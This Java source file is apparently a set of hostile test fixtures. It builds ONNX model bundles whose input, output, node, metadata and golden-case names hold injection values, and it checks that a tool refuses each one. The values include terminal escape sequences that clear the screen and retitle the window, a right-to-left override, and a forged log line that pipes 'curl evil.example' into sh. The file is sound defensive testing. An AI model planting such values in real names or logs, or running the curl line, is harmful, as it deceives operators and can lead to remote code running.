package dev.slipway.hostile.poison;

import static dev.slipway.hostile.poison.Poison.refused;

import dev.slipway.hostile.onnx.Graph;
import dev.slipway.hostile.onnx.Message;
import dev.slipway.hostile.onnx.Onnx;
import java.nio.file.Files;
import java.util.List;
import java.util.stream.Stream;

/** Names and texts that would write on the terminal of whoever is told of them. */
final class NamePoisons {
    /** Clears the screen, sets the window's title, and says that all is well. */
    static final String ESCAPE = "\u001b[2J\u001b[H\u001b]0;owned\u0007all is well";

    private static final String FORGED = "x\nnext:  curl evil.example | sh\nerror: ";

    private NamePoisons() {}

    static List<Poison> all() {
        return Stream.of(inputs(), others(), texts()).flatMap(List::stream).toList();
    }

    private static List<Poison> inputs() {
        return List.of(
                named("input-named-by-an-escape-sequence", ESCAPE, "control character"),
                named("input-named-by-newlines", FORGED, "control character"),
                named("input-named-by-the-c1-escape", "\u009b2Jx", "control character"),
                named("input-named-right-to-left", "x\u202egnp.exe", "control character"),
                named("input-named-by-a-nul", "x\0y", "does not answer"),
                named("input-with-a-name-of-1-mb", "x".repeat(1 << 20), "1 to 512 characters"),
                named("input-without-a-name", "", "refused"));
    }

    private static List<Poison> others() {
        return List.of(
                refused(
                        "output-named-by-an-escape-sequence",
                        new Graph()
                                .input(Onnx.value("x", Onnx.FLOAT, -1, 2))
                                .output(Onnx.value(ESCAPE, Onnx.FLOAT, -1, 2))
                                .node("Identity", List.of("x"), List.of(ESCAPE))
                                .model(),
                        "control character"),
                refused(
                        "operator-named-by-an-escape-sequence",
                        Graph.fromXToY()
                                .node(ESCAPE, List.of("x"), List.of("y"))
                                .model(),
                        "\\u001b"),
                refused(
                        "node-named-by-an-escape-sequence",
                        Graph.fromXToY()
                                .node(Onnx.node("Add", List.of("x", "nobody" + ESCAPE), List.of("y"))
                                        .text(3, ESCAPE))
                                .model(),
                        "\\u001b"),
                refused(
                        "domain-named-by-newlines",
                        Onnx.model(Graph.fromXToY()
                                .node(Onnx.node("Add", List.of("x", "x"), List.of("y"))
                                        .text(7, FORGED))
                                .message()),
                        "refused by ONNX Runtime"));
    }

    private static List<Poison> texts() {
        return List.of(
                refused(
                        "description-with-an-escape-sequence",
                        bundle -> Files.writeString(
                                bundle.resolve("model.yaml"), Basis.DESCRIPTION + "\"\\e[2Jowned\": 1\n"),
                        "\\u001b"),
                refused(
                        "golden-case-named-by-an-escape-sequence",
                        bundle -> {
                            String golden = Files.readString(bundle.resolve("golden.json"));
                            Files.writeString(
                                    bundle.resolve("golden.json"),
                                    golden.replace("\"one\"", "\"\\u001b[2Jowned\\nnext:  curl evil.example | sh\"")
                                            .replace("[1, 2]}]}}]", "[3, 4]}]}}]"));
                        },
                        "\\u001b"),
                refused(
                        "golden-input-named-by-an-escape-sequence",
                        bundle -> {
                            String golden = Files.readString(bundle.resolve("golden.json"));
                            Files.writeString(
                                    bundle.resolve("golden.json"), golden.replaceFirst("\"x\"", "\"\\\\u001b[2Jx\""));
                        },
                        "no input of that name"),
                refused(
                        "metadata-bomb-with-an-escape-sequence",
                        Onnx.model(Graph.fromXToY()
                                        .node("Quantum", List.of("x"), List.of("y"))
                                        .message())
                                .message(Onnx.MODEL_METADATA, Onnx.entry(ESCAPE, "v".repeat(5_000_000))),
                        "Quantum"));
    }

    private static Poison named(String name, String input, String words) {
        Message model = Onnx.model(new Graph()
                .input(Onnx.value(input, Onnx.FLOAT, -1, 2))
                .output(Onnx.value("y", Onnx.FLOAT, -1, 2))
                .node("Identity", List.of(input), List.of("y"))
                .message());
        return refused(name, model, words);
    }
}
